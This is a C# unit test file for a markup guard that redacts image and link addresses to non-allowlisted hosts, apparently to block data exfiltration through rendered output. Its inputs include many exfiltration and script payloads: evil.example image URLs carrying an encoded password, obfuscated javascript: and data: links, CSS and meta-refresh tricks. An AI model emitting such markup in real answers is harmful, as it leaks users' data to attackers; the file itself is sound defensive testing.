using Aegis.Scanning.Markup;

namespace Aegis.Core.Tests.Scanning.Markup;

/// <summary>No address carries anything away, and ordinary ones stay.</summary>
public class MarkupGuardTests
{
    private const string Data = "dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI";

    private static readonly MarkupGuard Guard = new(new(["*.contoso.com", "localhost"]), Decision.Redact);

    private static readonly AegisGuard Pipeline = AegisGuard.Create(new AegisPolicy { Output = new() { DetectPII = false, DetectSecrets = false, AllowedHosts = ["*.contoso.com", "localhost"] } });

    [Theory]
    [InlineData("![x](https://evil.example/p.png)", "![x]([REDACTED-URL])")]
    [InlineData("![x](  https://evil.example/p.png \"title\")", "![x](  [REDACTED-URL] \"title\")")]
    [InlineData("![x](<https://evil.example/a b>)", "![x](<[REDACTED-URL]>)")]
    [InlineData("![x](//evil.example/p.png)", "![x]([REDACTED-URL])")]
    [InlineData("![x](https:\\\\evil.example/p)", "![x]([REDACTED-URL])")]
    [InlineData("![x](&#104;ttps://evil.example/p)", "![x]([REDACTED-URL])")]
    [InlineData("![x](https&colon;//evil.example/p)", "![x]([REDACTED-URL])")]
    [InlineData("![x](https://www.contoso.com@evil.example/p)", "![x]([REDACTED-URL])")]
    [InlineData("![x](https://evil.example/#.contoso.com)", "![x]([REDACTED-URL])")]
    [InlineData("[![x](https://evil.example/p)](https://learn.microsoft.com/)", "[![x]([REDACTED-URL])](https://learn.microsoft.com/)")]
    [InlineData("![a [b] c](https://evil.example/p)", "![a [b] c]([REDACTED-URL])")]
    [InlineData("![x][r]\n\n[r]: https://evil.example/p?d=1", "[REDACTED-IMAGE][r]\n\n[r]: [REDACTED-URL]")]
    [InlineData("the end: ![r]", "the end: [REDACTED-IMAGE]")]
    [InlineData("<img src=\"https://evil.example/p\">", "<img src=\"[REDACTED-URL]\">")]
    [InlineData("<IMG alt='>' SRC = 'https://evil.example/p'>", "<IMG alt='>' SRC = '[REDACTED-URL]'>")]
    [InlineData("<img src=//evil.example/p>", "<img src=[REDACTED-URL]>")]
    [InlineData("<img src=\"ht\ntps://evil.example/p\">", "<img src=\"[REDACTED-URL]\">")]
    [InlineData("<img srcset=\"https://a.contoso.com/1 1x, https://evil.example/2 2x\">", "<img srcset=\"https://a.contoso.com/1 1x, [REDACTED-URL] 2x\">")]
    [InlineData("<p style=\"background:url(https://evil.example/p)\">", "<p style=\"background:url([REDACTED-URL])\">")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<meta http-equiv=refresh content=\"0;url=[REDACTED-URL]\">")]
    [InlineData("@import//evil.example/a b", "@import//evil.example/a b")]
    [InlineData("<style>@import \"https://evil.example/c\"</style>", "[REDACTED-TAG]@import \"[REDACTED-URL]\"</style>")]
    [InlineData("[x](javascript:alert(1))", "[x]([REDACTED-URL])")]
    [InlineData("[x](JaVa&#115;cript&colon;alert(1))", "[x]([REDACTED-URL])")]
    [InlineData("[x](data:text/html;base64,PHN2Zz4)", "[x]([REDACTED-URL])")]
    [InlineData("<a href=\"data:text/html;base64,PHN2Zz4\">x</a>", "<a href=\"[REDACTED-URL]\">x</a>")]
    [InlineData("<javascript:alert(1)>", "<[REDACTED-URL]>")]
    [InlineData("[r]: vbscript:msgbox", "[r]: [REDACTED-URL]")]
    [InlineData("[click](https://evil.example/?q=" + Data + ")", "[click]([REDACTED-URL])")]
    [InlineData("[click](https://evil.example/" + Data + Data + ")", "[click]([REDACTED-URL])")]
    [InlineData("[click](https://" + Data + ".evil.example/)", "[click]([REDACTED-URL])")]
    [InlineData("[click](https://me:" + "hunter2@evil.example/)", "[click]([REDACTED-URL])")]
    [InlineData("<https://evil.example/?q=" + Data + ">", "<[REDACTED-URL]>")]
    [InlineData("see https://evil.example/?q=" + Data + ".", "see [REDACTED-URL].")]
    [InlineData("see (www.evil.example/?q=" + Data + ")", "see ([REDACTED-URL])")]
    [InlineData("<a href='https://evil.example/?q=" + Data + "'>x</a>", "<a href='[REDACTED-URL]'>x</a>")]
    [InlineData("![a](https\\://evil.example/x.png)", "![a]([REDACTED-URL])")]
    [InlineData("[c](javascript\\:alert(1))", "[c]([REDACTED-URL])")]
    [InlineData("![a\\]b](https://evil.example/x.png)", "![a\\]b]([REDACTED-URL])")]
    [InlineData("> ![a](\n> https://evil.example/x.png)", "> ![a](\n> [REDACTED-URL])")]
    [InlineData("![a](file://evil.example/share/x.png)", "![a]([REDACTED-URL])")]
    [InlineData("<img src=\"https&#58//evil.example/x.png\">", "<img src=\"[REDACTED-URL]\">")]
    [InlineData("<a href=\"&#106avascript:alert(1)\">", "<a href=\"[REDACTED-URL]\">")]
    [InlineData("<img a=\"x\"\" b=\">\" src=\"https://evil.example/x.png\">", "<img a=\"x\"\" b=\">\" src=\"[REDACTED-URL]\">")]
    [InlineData("<a title=it's><img src=\"https://evil.example/x.png\"></a>", "<a title=it's><img src=\"[REDACTED-URL]\"></a>")]
    [InlineData("<!-- <a title=\" --><img src=https://evil.example/x.png>", "<!-- <a title=\" --><img src=[REDACTED-URL]>")]
    [InlineData("<svg><image><set attributeName=href to=\"https://evil.example/x.png\"/>", "<svg><image><set attributeName=href to=\"[REDACTED-URL]\"/>")]
    [InlineData("<p style=\"background:url( //evil.example/x.png)\">", "<p style=\"background:url( [REDACTED-URL])\">")]
    [InlineData("[x](https://evil.example/%70%61%73%73%77%6f%72%64)", "[x]([REDACTED-URL])")]
    [InlineData("[x](https://a1b2c3d4e5f6a7b8c9d.e0f1a2b3c4d5e6f7a8b.evil.example/)", "[x]([REDACTED-URL])")]
    [InlineData("mailto:eve@evil.example?body=" + Data, "[REDACTED-URL]")]
    public async Task WhatCarriesSomethingAwayOrRunsIsReplaced(string text, string shown) => Assert.Equal(shown, await Show(text));

    [Theory]
    [InlineData("[docs](https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-test?tabs=dotnet-test-with-vstest#options)")]
    [InlineData("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s")]
    [InlineData("https://www.google.com/search?q=how+to+reset+a+password+on+windows+11")]
    [InlineData("(see https://en.wikipedia.org/wiki/Foo_(bar)).")]
    [InlineData("https://github.com/dotnet/runtime/blob/9fceb02d0ae598e95dc970b74767f19372d61af8/README.md?plain=1#L12")]
    [InlineData("https://docs.google.com/document/d/1aB2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ/edit")]
    [InlineData("![x](https://cdn.contoso.com/a.png?v=2)")]
    [InlineData("![x](http://localhost:8080/a.png)")]
    [InlineData("![x](images/a.png) and ![y](/b.png) and ![z](data:image/png;base64,iVBORw0KGgo=)")]
    [InlineData("<img src=\"logo.png\" alt=\"a > b\">")]
    [InlineData("var src = \"https://api.example.com/v1/items\";")]
    [InlineData("javascript: the good parts, and data: what to know")]
    [InlineData("types[0](x) and dict[str, int]: a table; `List<https>`")]
    [InlineData("[1]: https://learn.microsoft.com/dotnet/csharp")]
    [InlineData("Great![1] and so on")]
    [InlineData("write to <mailto:mira@example.com>")]
    public async Task OrdinaryAddressesStay(string text) => Assert.Equal(text, await Show(text));

    [Fact]
    public async Task AnAddressThatIsTooLongToBeSeenWholeEndsTheAnswer()
    {
        var finding = Assert.Single((await Guard.InspectAsync(new OutputWindow($"![x](https://evil.example/{new string('a', 3_000)}) more"), default, TestContext.Current.CancellationToken)).Findings);
        Assert.Equal((Decision.Block, 5), (finding.Decision, finding.Range!.Value.Start));
    }

    private static async Task<string> Show(string text) => (await Pipeline.InspectAsync(new OutputWindow(text), new("s"), TestContext.Current.CancellationToken)).Subject.Text;
}
